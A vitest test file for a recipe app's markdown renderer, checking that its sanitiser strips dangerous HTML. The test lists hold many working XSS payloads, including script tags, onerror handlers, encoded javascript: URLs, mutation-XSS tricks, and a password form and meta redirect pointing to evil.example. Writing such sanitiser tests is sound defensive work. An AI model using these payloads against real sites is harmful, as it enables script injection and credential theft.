import { expect, test } from 'vitest'
import { readMarkdown } from '#renderer/components/markdown/read-markdown.ts'
import { payloads } from '#tests/support/payloads.ts'

function renderMarkdown(text: string) {
  const holder = document.createElement('div')
  holder.append(readMarkdown(text))
  return holder.innerHTML
}

const dangerous =
  /<(?:script|style|iframe|object|embed|form|input|svg|math|meta|link|base|video|audio|button|template)\b|\son\w+\s*=|javascript:|vbscript:|data:text|\sstyle=|\sid=|\sname=|\sclass=/i

test.for([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&amp;#106;avascript:alert(1))',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '<iframe src="https://video.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<p style="position:fixed;inset:0">covered</p>',
  '<style>body{display:none}</style>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div id="root" name="body" class="mantine">clobber</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt; <b onclick=alert(1)>b</b>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)"><img src=x alt="x"></a>',
  '![x](javascript:alert(1)) ![x](vbscript:x) ![x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<a xlink:href="javascript:alert(1)" formaction="javascript:alert(1)" ping="https://evil.example">x</a>',
  '<img srcset="https://evil.example/x 2x" src="/own.webp">',
  '<p background="https://evil.example/x" data-x="1" aria-label="y">x</p>',
  ...payloads,
])('XSS-2: does no harm: %s', (text) => {
  const html = renderMarkdown(text)
  const holder = document.createElement('div')
  holder.innerHTML = html
  for (const element of holder.querySelectorAll('*')) {
    const shown = element.cloneNode(false) as Element
    expect(shown.outerHTML.replaceAll(/&lt;.*?&gt;/g, '')).not.toMatch(dangerous)
  }
})

test.for([
  ['**bold** and *italic*', '<p><strong>bold</strong> and <em>italic</em></p>'],
  ['H<sub>2</sub>O, 2<sup>nd</sup>', '<p>H<sub>2</sub>O, 2<sup>nd</sup></p>'],
  ['one\ntwo', '<p>one<br>\ntwo</p>'],
  ['~~gone~~', '<p><s>gone</s></p>'],
  ['# Title', '<h1>Title</h1>'],
  ['5 < 6 & 7', '<p>5 &lt; 6 &amp; 7</p>'],
  ['{{ 7 * 7 }} ${7*7} {% x %}', '<p>{{ 7 * 7 }} ${7*7} {% x %}</p>'],
] as const)('%s stays', ([text, html]) => {
  expect(renderMarkdown(text).trim()).toBe(html)
})

test('links to other sites open beside us without telling who we are', () => {
  expect(renderMarkdown('[book](https://cook.example/a)').trim()).toBe(
    '<p><a href="https://cook.example/a" target="_blank" rel="noopener noreferrer">book</a></p>',
  )
  expect(renderMarkdown('[here](/g/home/r/pie)')).toContain('<a href="/g/home/r/pie">here</a>')
})

test('pictures of other sites become links, our own are shown', () => {
  expect(renderMarkdown('![Oven](https://cook.example/o.jpg)')).toContain(
    '<a href="https://cook.example/o.jpg" target="_blank" rel="noopener noreferrer">Oven</a>',
  )
  expect(renderMarkdown('![Oven](//cook.example/o.jpg)')).not.toContain('<img')
  expect(renderMarkdown('![Oven](/api/media/recipes/1/assets/o.webp)')).toContain(
    '<img src="/api/media/recipes/1/assets/o.webp" alt="Oven" loading="lazy">',
  )
})

/** The HTML that people may write, besides pictures and ~~this~~. All other elements are removed. */
const allowed = new Set(
  [
    'a abbr b br cite del dfn em i ins s small span strong sub sup u',
    'code kbd pre samp var',
    'address blockquote div h1 h2 h3 h4 h5 h6 hr p',
    'dd dl dt li ol ul',
    'colgroup table tbody td tfoot th thead tr',
  ].flatMap((group) => group.split(' ')),
)
const elements = [
  ...allowed,
  'applet area article aside audio base basefont bdi bdo bgsound big blink body button canvas caption',
  'center col data datalist details dialog dir embed fieldset figcaption figure font footer form frame',
  'frameset head header hgroup html iframe input isindex keygen label legend link listing main map mark',
  'marquee math menu menuitem meta meter nav nobr noembed noframes noscript object optgroup option output',
  'param picture plaintext portal progress q rp rt ruby samp script search section select slot source',
  'strike style summary svg template textarea time title track tt video wbr xmp my-element',
].flatMap((group) => group.split(' '))

test.for([...new Set(elements)])('XSS-2: <%s> stays only if people may write it', (name) => {
  const inner = name === 'br' || name === 'hr' ? '' : `x</${name}>`
  // Parts of a table are only read within one.
  const isPart = /^(?:t[dhr]|tbody|tfoot|thead|col|colgroup|caption)$/.test(name)
  const element = `<${name} class="c" style="color:red" onclick="x()">${inner}`
  const { content } = Object.assign(document.createElement('template'), {
    innerHTML: renderMarkdown(isPart ? `<table>${element}</table>` : `<div>${element}</div>`),
  })
  const found = content.querySelector(name)
  expect(found !== null).toBe(allowed.has(name))
  expect([...(found?.attributes ?? [])].map((attribute) => attribute.name)).toEqual([])
})

test('XSS-2: frames of video sites are removed while nobody lists any', () => {
  for (const host of ['www.youtube.com', 'player.vimeo.com', 'peertube.example']) {
    const html = renderMarkdown(`before <iframe src="https://${host}/embed/x"></iframe> after`)
    expect(html).not.toMatch(/iframe|embed/)
    expect(html).toContain('before')
  }
})

test.for([
  ['https://cook.example/a', true],
  ['http://cook.example/a', true],
  ['//cook.example/a', true],
  ['/g/home/r/pie', false],
  ['#step', false],
  ['mailto:rosa@example.test', false],
  ['tel:112', false],
] as const)('a link to %s opens beside us: %s', ([href, isAway]) => {
  const html = renderMarkdown(`<a href="${href}" target="_top" rel="opener">x</a>`)
  const rest = isAway ? ' target="_blank" rel="noopener noreferrer"' : ''
  expect(html.trim()).toBe(`<p><a href="${href}"${rest}>x</a></p>`)
})

test.for([
  'javascript:x',
  'data:text/html,x',
  'data:image/svg+xml,<svg>',
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://x/1',
  'ftp://x/y',
  'intent://x',
  ' javascript:x',
  'java\tscript:x',
  '\u0001javascript:x',
  'JAVASCRIPT&colon;x',
])('XSS-2: the address %j is taken away', (address) => {
  const html = renderMarkdown(`<a href="${address}">x</a> <img src="${address}" alt="y">`)
  expect(html).not.toContain('href')
  expect(html).not.toContain('src')
})

test('XSS-2: what is escaped twice is decoded once', () => {
  expect(renderMarkdown('&amp;lt;img src=x onerror=alert(1)&amp;gt;').trim()).toBe(
    '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
  )
})
